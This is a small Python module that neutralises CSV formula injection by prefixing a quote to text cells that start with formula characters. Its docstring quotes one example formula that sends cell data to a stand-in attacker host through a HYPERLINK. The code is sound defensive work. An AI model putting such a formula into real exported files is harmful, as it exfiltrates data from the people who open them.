"""Text cells that a spreadsheet opens as text.

Spreadsheets read a CSV cell that begins with `=`, `+`, `-` or `@` (or a tab, carriage return or line feed
before one) as a formula: a stack frame or snapshot name such as `=HYPERLINK("http://evil/?"&A1)` would run
when the file is opened. OWASP's rule (CSV Injection): such a cell gets a leading single quote, which the
spreadsheet shows as nothing and which makes the rest text. The fullwidth forms of the four (which some
spreadsheets fold to ASCII) are treated the same. Only text cells: numbers, negative ones included, stay numbers.
"""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def spreadsheet_text(value: str) -> str:
    """`value` as a cell no spreadsheet will evaluate (OWASP: a leading ' before a formula's first character)."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value
